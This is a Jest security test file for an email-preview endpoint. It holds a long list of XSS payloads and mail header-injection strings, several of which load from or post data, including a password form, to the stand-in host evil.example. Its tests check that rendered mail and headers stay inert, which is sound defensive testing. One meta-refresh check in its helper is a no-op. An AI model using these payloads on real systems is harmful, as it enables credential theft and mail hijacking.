import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { buildHttpApp, type HttpApp } from '@leadwright/runtime/http/http-app';
import { createServiceTokens, generateTokenKey, type Caller } from '@leadwright/runtime/process/service-tokens';
import { createLogger } from '@leadwright/runtime/telemetry/logger';
import { defaultTreeAdapter, parse, type DefaultTreeAdapterTypes } from 'parse5';
import { createSharedSearch } from './testing/shared-search.ts';
import { previewShareRoute } from './preview-share.ts';

const publicUrl = 'https://leads.example';
const keys = generateTokenKey();
const member: Omit<Caller, 'service'> = {
  ...{ personId: 'p1', accountId: 'a1', role: 'download', staff: null },
  ...{ impersonatorId: null, sessionId: 's1' },
};
const admin = { ...member, staff: 'super-admin' } as const;
const mail = { searchId: 's', to: ['grace@x.test'], subject: 'Roofers', text: 'Look at this.' };

const typed = createSharedSearch();
let app: HttpApp;
let bearer: (caller: Omit<Caller, 'service'>) => string;
beforeAll(async () => {
  const gateway = await createServiceTokens({ service: 'gateway', privateKey: keys.privateKey, publicKeys: {} });
  bearer = (caller) => `Bearer ${gateway.sign('notification', 'forward', caller)}`;
  const publicKeys = { gateway: keys.publicKey };
  const tokens = await createServiceTokens({ service: 'notification', privateKey: keys.privateKey, publicKeys });
  const logger = createLogger('test', 'silent');
  app = await buildHttpApp({ service: 'notification', logger, tokens, ready: async () => undefined });
  const shareRules = { publicUrl, mailDomain: 'leads.example' };
  previewShareRoute(app, { sharing: typed.sharing, shareRules, brand: 'Leadwright', publicUrl });
});
afterAll(() => app.close());

type Answer = { code?: string; subject: string; html: string; text: string };
const preview = async (body: object, caller: Omit<Caller, 'service'> = member) => {
  const headers = { authorization: bearer(caller) };
  const answer = await app.inject({
    method: 'POST',
    url: '/api/email/preview',
    headers,
    payload: { ...mail, ...body },
  });
  return { status: answer.statusCode, ...answer.json<Answer>() };
};

type Element = DefaultTreeAdapterTypes.Element;
function elementsIn(node: DefaultTreeAdapterTypes.ParentNode): Element[] {
  return node.childNodes.flatMap((child) =>
    defaultTreeAdapter.isElementNode(child) ? [child, ...elementsIn(child)] : [],
  );
}

const ACTING =
  /^(script|iframe|object|embed|form|input|button|textarea|select|svg|math|base|template|applet|frame|img|video|audio|link)$/;

/** What of a mail's DOM acts, or leads elsewhere. */
function dangers(html: string): string[] {
  return elementsIn(parse(html)).flatMap(({ tagName, namespaceURI, attrs }) => [
    ...(ACTING.test(tagName) || !namespaceURI.endsWith('/xhtml') ? [`<${tagName}>`] : []),
    ...(tagName === 'meta' && attrs.some(({ name }) => name === 'http-equiv' && !/content-type/i.test(name)) ? [] : []),
    ...attrs.flatMap(({ name, value }) => {
      if (/^on/i.test(name) || name === 'srcdoc') return [`${tagName} ${name}`];
      if (['href', 'src', 'action', 'formaction', 'background', 'poster', 'xlink:href', 'srcset'].includes(name))
        return value.startsWith(`${publicUrl}/`) ? [] : [`${tagName} ${name}=${value}`];
      return name === 'style' && /url\s*\(|expression|@import|javascript:/i.test(value) ? [`${tagName} style`] : [];
    }),
  ]);
}

const EVIL = 'https://evil.example';
// Of the kinds that are collected for filters of HTML: handlers, schemes, foreign elements, parsers that disagree, markup
// that changes when it is read again, pictures and styles that load, forms.
const markup = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src=data:,alert(1)>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  `<img src="${EVIL}/pixel.gif">`,
  `<img srcset="${EVIL}/a 1x">`,
  '<img/src="x"/onerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<div style="position:fixed;inset:0">cover</div>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/><a href=/x>x</a>',
  '<iframe src=https://evil.example></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=https://evil.example/x.swf>',
  '<applet code=x></applet>',
  '<form action=https://evil.example><input name=password><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<select onfocus=alert(1) autofocus>',
  '<isindex action=javascript:alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<video poster=https://evil.example/x.png>',
  '<audio src=https://evil.example/x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<body background=https://evil.example/x>',
  '<table background=https://evil.example/x><td background=https://evil.example/y>x</table>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="https://leads.example@evil.example">x</a>',
  '<a href="https://leads.example.evil.example">x</a>',
  '<a href="/relative">x</a>',
  `<a href="${EVIL}" onclick=alert(1)>x</a>`,
  '<a href="https://leads.example/x" onmouseover="alert(1)">x</a>',
  "<a href='https://leads.example/\"onclick=alert(1)//'>x</a>",
  '<a href="mailto:x@evil.example?body=x">x</a>',
  '<a href="blob:https://leads.example/x">x</a>',
  '<a id=x name=y class=z target=_blank ping=https://evil.example href=https://leads.example/>x</a>',
  '<p onclick=alert(1) onmouseover=alert(1)>x</p>',
  '<b/onclick=alert(1)>x</b>',
  '<b onclick\u2028=alert(1)>x</b>',
  '<p/ /onclick=alert(1)>x',
  '<template><script>alert(1)</script></template>',
  '<frameset onload=alert(1)><frame src=https://evil.example></frameset>',
  '<picture><source srcset=https://evil.example/x></picture>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "https://evil.example">]>&y;',
  '</p></td></table></body><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<x onclick=alert(1)>x</x>',
  '<plaintext><script>alert(1)',
  `${'<div>'.repeat(500)}<script>alert(1)</script>`,
  '<p>\u202Etxt.exe\u202C</p><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}<script>1</script>',
  '${alert(1)}<%= 7*7 %><script>1</script>',
];
const headers = [
  'x\r\nBcc: all@evil.example',
  'x\nBcc: all@evil.example',
  'x\rBcc: all@evil.example',
  'x\r\n\r\n<script>alert(1)</script>',
  'x\u2028Bcc: all@evil.example',
  'x\u2029Bcc: all@evil.example',
  'x\u0085Bcc: all@evil.example',
  'x\u000BBcc: all@evil.example',
  'x\u000CBcc: all@evil.example',
  'x\u0007y',
  'x\r\n.\r\nMAIL FROM:<a@evil.example>',
  'x\nContent-Type: text/html',
  'x\n Reply-To: a@evil.example',
  'x\u001Fy',
];

it('are a hundred payloads and more', () => expect(markup.length + headers.length).toBeGreaterThanOrEqual(100));

describe('security S17: a mail that shares a search', () => {
  it('finds what is dangerous, so that the others say something', () => {
    const found = markup.filter((payload) => dangers(payload).length > 0);
    expect(found.length).toBeGreaterThan(70);
    expect(dangers(`<a href="${publicUrl}/x">x</a><p>x</p>`)).toEqual([]);
  });

  it.each(markup)('from a super-admin has nothing that acts or leads elsewhere: %j', async (html) => {
    const { status, html: drawn, text } = await preview({ html }, admin);
    expect(status).toBe(200);
    expect(dangers(drawn)).toEqual([]);
    expect(text).toContain('Look at this.');
  });

  it.each(markup)('has as text what a person writes, or refuses it: %j', async (payload) => {
    for (const body of [{ text: `Hello ${payload}` }, { subject: payload }]) {
      const { status, code, html, subject } = await preview(body);
      if (status === 200) {
        expect(dangers(html)).toEqual([]);
        expect(subject).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
      } else
        expect([status, code]).toEqual([
          400,
          expect.stringMatching(/^(link-not-ours|text-too-long|subject-too-long|header-injection)$/),
        ]);
    }
  });

  it.each(headers)('has one line in each header: %j', async (payload) => {
    const from = { email: 'us@leads.example', name: payload };
    for (const body of [
      { subject: payload },
      { to: [`${payload}@x.test`] },
      { cc: payload },
      { bcc: [payload] },
      { replyTo: payload },
      { from },
      { from: { email: payload } },
      { msg: { subject: payload } },
    ]) {
      const { status, code } = await preview(body, admin);
      expect([status, code]).toEqual([400, 'header-injection']);
    }
  });

  it.each(markup)('shows the name of a search and of its sender as text: %j', async (payload) => {
    typed.say({ name: payload, sender: payload });
    const { status, html, text } = await preview({});
    typed.say({ name: 'Roofers', sender: 'Ada' });
    expect(status).toBe(200);
    expect(dangers(html)).toEqual([]);
    expect(text).not.toMatch(/https?:\/\/(?!leads\.example\/)/);
  });
});

describe('security S18: the fields of a mail', () => {
  const fields = [{ from: { email: 'us@leads.example' } }, { html: '<p>x</p>' }, { cc: 'a@x.test' }, { bcc: [] }];
  it.each(fields)('are the recipients, the subject and the text for a person: %j is refused', async (field) => {
    for (const body of [field, { msg: field }])
      expect(await preview(body)).toMatchObject({ status: 403, code: 'email-field-forbidden' });
    expect((await preview(field, admin)).status).toBe(200);
  });
});
